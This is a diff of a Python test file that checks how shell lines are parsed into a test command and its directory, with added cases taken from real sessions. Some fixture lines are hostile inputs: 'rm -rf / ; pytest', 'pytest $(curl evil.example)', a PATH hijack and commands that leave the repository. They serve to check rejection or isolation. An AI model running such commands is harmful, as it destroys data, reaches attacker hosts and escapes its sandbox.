@@ -41,8 +41,23 @@ ROOT = "/home/u/app"
         ("make test", ("make", "test"), "."),
         ("git status && pnpm run test", ("pnpm", "run", "test"), "."),
         ("rm -rf / ; pytest", ("pytest",), "."),  # only the test command is ever run
+        # what only shapes the output is left out: the run is the same, and no shell runs it
+        ("pytest > /tmp/x", ("pytest",), "."),
+        ("pytest | tee log", ("pytest",), "."),
+        # real lines of the labelled sessions (tests/fixtures/real_sessions), lost before
+        ("make test 2>&1", ("make", "test"), "."),
+        ("uv run pytest tests/ -v 2>&1 | tail -25", ("uv", "run", "pytest", "tests/", "-v"), "."),
+        ("gofmt -s -l . && go vet ./... && go test ./internal/collectors/ -run TestCollectBurnout"
+         " -v 2>&1",
+         ("go", "test", "./internal/collectors/", "-run", "TestCollectBurnout", "-v"), "."),
+        ('pnpm test -- --grep "Sessions UI|Checkpoint UI"',
+         ("pnpm", "test", "--", "--grep", "Sessions UI|Checkpoint UI"), "."),
+        ('mix test 2>&1 | grep -E "(tests|failures)"', ("mix", "test"), "."),
+        ("pnpm vitest run lib/phases/transitions.test.ts 2>&1",
+         ("pnpm", "vitest", "run", "lib/phases/transitions.test.ts"), "."),
+        ("cat notes.txt | python x.py; pytest -q", ("pytest", "-q"), "."),
     ],
-)
+)  # fmt: skip
 def test_test_commands_are_found_with_their_directory(
     command: str, argv: tuple[str, ...], cwd: str
 ) -> None:
@@ -56,8 +71,11 @@ def test_test_commands_are_found_with_their_directory(
     [
         "pytest $(curl evil.example)",
         "pytest `id`",
-        "pytest > /tmp/x",
-        "pytest | tee log",
+        "pytest | python -c 'import os'",  # its output goes to another program
+        "(source .venv/bin/activate && pytest)",  # a subshell
+        "pytest &",
+        "pytest 'tests/*.py'",
+        "cd $(mktemp -d) && pytest",
         "cd /etc && make test",  # outside the repository
         "cd ../.. && pytest",
         "PATH=/tmp/evil:$PATH pytest",
